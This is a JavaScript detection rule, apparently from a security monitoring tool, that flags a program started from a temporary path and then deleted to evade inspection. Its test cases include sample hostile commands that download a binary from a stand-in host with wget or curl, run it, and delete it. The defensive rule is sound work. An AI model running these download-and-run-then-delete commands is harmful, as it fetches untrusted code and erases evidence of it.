import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

/** A program is started and its file removed at once, so that nobody can look at it. */
export const startedThenDeleted = commandRule({
  id: "started-then-deleted",
  alertType: "Picket_StartedThenDeleted",
  name: "Program deletes its own file",
  severity: "High",
  about: "A program is started and its file removed at once, so that nobody can look at it.",
  tactics: ["Defense Evasion"],
  techniques: ["T1070.004"],
  falsePositives: ["Installers that unpack themselves and tidy up; they wait for the end first."],
  witness: ["rm", "unlink", "shred"],
  sees: (reading) => {
    for (const [place, { argv, name }] of reading.commands.entries()) {
      const program = argv[0] ?? "";
      if (
        !/^(?:\.\/|\/(?:tmp|var\/tmp|dev\/shm|root|run|mnt)\/)/.test(program) ||
        /^(?:ba|da)?sh$/.test(name)
      )
        continue;
      const removed = reading.commands
        .slice(place + 1)
        .find(
          ({ name: later, argv: words }) =>
            /^(?:rm|unlink|shred)$/.test(later) &&
            words.slice(1).some((word) => word === program || word.slice(word.lastIndexOf("/") + 1) === name),
        );
      if (removed) return `${program} … ${removed.text}`;
    }
    return find(reading, /^(?:rm|unlink|shred)$/, ({ argv }) =>
      argv.slice(1).some((word) => word === "$0" || word === "${0}"),
    );
  },
  did: "started a program and deleted its file",
  because: "what runs cannot be looked at any more",
  fires: [
    "sh -c wget http://203.0.113.9/a; chmod +x a; ./a; rm -f a",
    "sh -c /tmp/x & rm -f /tmp/x",
    "bash -c curl -so /tmp/q http://203.0.113.9/q; nohup /tmp/q; rm -rf $0",
  ],
  silent: [
    "sh -c ./configure && make && rm -f conftest",
    "sh -c /opt/app/run; rm -f /tmp/app.lock",
    "rm -f /tmp/x",
    "sh -c ./build.sh; rm -rf out",
    "sh -c gcc a.c -o a; ./test; rm -f a.o",
  ],
});
